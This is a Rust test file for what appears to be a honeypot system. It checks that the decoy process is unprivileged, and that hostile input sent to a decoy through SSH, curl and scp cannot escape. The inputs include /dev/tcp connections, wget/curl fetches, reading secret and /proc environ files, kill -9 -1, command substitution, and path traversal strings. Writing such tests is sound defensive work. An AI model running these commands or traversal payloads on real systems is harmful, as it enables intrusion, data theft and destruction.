//! Nothing an attacker sends leads out of the decoy process.

use std::fs;
use std::io::ErrorKind;
use std::net::TcpListener;

use e2e::{Decnet, Options, clients, missing, until};

#[test]
fn the_decoy_process_has_nothing_to_break_out_with() {
    let mut decnet = Decnet::start(Options { deckies: Some(1), ..Options::default() });
    let pid = until("the decoy process", || decnet.decoy_pid());
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let value = |key: &str| {
        let line = status.lines().find(|line| line.starts_with(key)).unwrap();
        line.split_whitespace().skip(1).map(str::to_owned).collect::<Vec<_>>()
    };
    assert_eq!(value("NoNewPrivs:"), ["1"]);
    assert_eq!(value("Seccomp:"), ["2"]);
    for set in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
        let none = u64::from_str_radix(&value(set)[0], 16).unwrap() == 0;
        // Only root can empty the bounding set, and only root has something in it to lose.
        assert!(none || set == "CapBnd:", "{set} {status}");
    }
    assert!(value("Uid:").iter().all(|uid| uid != "0"), "{status}");
    assert!(decnet.stop());
    assert!(!fs::exists(decnet.path("ready")).unwrap(), "the ready file goes with the daemon");
}

#[test]
fn commands_uploads_and_paths_stay_on_the_decky() {
    if missing("sshpass") || missing("ssh") || missing("curl") {
        return;
    }
    let decnet = Decnet::start(Options { deckies: Some(1), ..Options::default() });
    let decky = decnet.decky();
    let trap = TcpListener::bind("127.0.0.1:0").unwrap();
    trap.set_nonblocking(true).unwrap();
    let port = trap.local_addr().unwrap().port();
    let outside = decnet.path("escaped");
    let secret = decnet.path("secret");
    fs::write(&secret, "real machine").unwrap();
    for line in [
        format!("wget -q -O- http://127.0.0.1:{port}/ ; curl -s http://127.0.0.1:{port}/"),
        format!("echo x > /dev/tcp/127.0.0.1/{port}"),
        format!("bash -c 'cat < /dev/tcp/127.0.0.1/{port}'"),
        format!("touch {}; echo x > {}", outside.display(), outside.display()),
        format!("cat {}", secret.display()),
        "cat /proc/self/environ /proc/1/environ; ls /proc/self/fd; kill -9 -1".to_owned(),
        "$(/bin/sh -c 'touch /tmp/decnet-escaped'); `touch /tmp/decnet-escaped`".to_owned(),
    ] {
        let output = clients::run(&decky, &line);
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(!text.contains("real machine") && !text.contains("DECNET"), "{line}: {text}");
    }
    for path in [
        format!("/../../../../..{}", secret.display()),
        format!("/%2e%2e/%2e%2e/%2e%2e/%2e%2e{}", secret.display()),
        format!("/..//..//..//..{}", secret.display()),
    ] {
        let output = clients::curl(&decky, &path, &["--path-as-is"]);
        assert!(!String::from_utf8_lossy(&output.stdout).contains("real machine"), "{path}");
    }
    let target = format!("../../../../../../../../{}", outside.display());
    clients::scp(&decky, secret.to_str().unwrap(), &target, true);
    clients::scp(&decky, secret.to_str().unwrap(), &target, false);
    assert!(!outside.exists(), "a path led to the real machine");
    assert!(!fs::exists("/tmp/decnet-escaped").unwrap(), "a command ran on the real machine");
    assert_eq!(trap.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "a connection was made");
}
